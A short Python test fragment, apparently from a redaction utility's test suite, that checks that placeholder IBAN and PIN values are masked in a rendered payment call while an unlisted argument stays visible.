        arguments = {"iban": "DE02 1", "pin": 12, "n": 12}
        words = "pay(iban='DE02 1', pin=12, n=12) to DE02 1"
        shown = DEFAULT_REDACTION.also(["iban", "pin"]).without_values(words, arguments)
        assert shown == f"pay(iban={mark(6)}, pin={mark(2)}, n=12) to {mark(6)}"
